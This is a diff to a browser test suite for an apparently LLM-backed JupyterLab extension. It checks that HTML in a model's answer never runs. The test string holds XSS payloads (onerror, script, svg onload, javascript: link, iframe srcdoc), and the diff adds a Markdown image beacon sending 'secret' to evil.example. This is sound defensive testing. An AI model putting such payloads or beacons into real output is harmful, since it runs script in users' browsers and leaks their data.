@@ -275,7 +275,8 @@ def test_each_ask_goes_to_its_own_notebook(lab: Lab, fake: FakeLLM) -> None:
 
 XSS = ('Done. <img src=x onerror="window.__xss=1"> <script>window.__xss=2</script> '
        '<svg onload="window.__xss=3"></svg> [click me](javascript:window.__xss=4) '
-       '<iframe srcdoc="<script>parent.__xss=5</script>"></iframe> **safe bold**')
+       '<iframe srcdoc="<script>parent.__xss=5</script>"></iframe> **safe bold** '
+       '![beacon](https://evil.example/pixel.png?d=secret) <img src="//evil.example/p.png">')
 
 
 def test_html_in_an_answer_never_runs_in_the_cell_or_the_panel(lab: Lab, fake: FakeLLM) -> None:
@@ -297,9 +298,15 @@ def test_html_in_an_answer_never_runs_in_the_cell_or_the_panel(lab: Lab, fake: F
     ask = nb.cell(0).locator(".jp-OutputArea")
     expect(ask).to_contain_text('<img src=x onerror="window.__xss=1">')
     # Inside the outputs themselves (JupyterLab's own icons sit around them).
-    expect(ask.locator(".jp-OutputArea-output :is(img, script, svg, iframe)")).to_have_count(0)
-    # The panel renders the Markdown untrusted: JupyterLab's sanitizer keeps a bare <img>.
+    expect(ask.locator(".jp-OutputArea-output :is(script, svg, iframe)")).to_have_count(0)
+    # The beacon stays as a bare <img alt> with no source: nothing loads.
+    expect(ask.locator(".jp-OutputArea-output img[src]")).to_have_count(0)
+    # The panel renders the Markdown untrusted: JupyterLab's sanitizer keeps a bare <img>,
+    # and ours drops any that would load from another site (a beacon carrying data away).
     expect(answer.locator(":is(script, svg, iframe)")).to_have_count(0)
+    remote = "n => [...n.querySelectorAll('img')].filter(i => /evil/.test(i.src)).length"
+    assert answer.evaluate(remote) == 0
+    assert nb.cell(0).locator(".jp-OutputArea").evaluate(remote) == 0
     handlers = "n => [...n.querySelectorAll('*')].flatMap(e => [...e.attributes])" \
         ".filter(a => a.name.startsWith('on') || a.value.startsWith('javascript:')).length"
     assert answer.evaluate(handlers) == 0
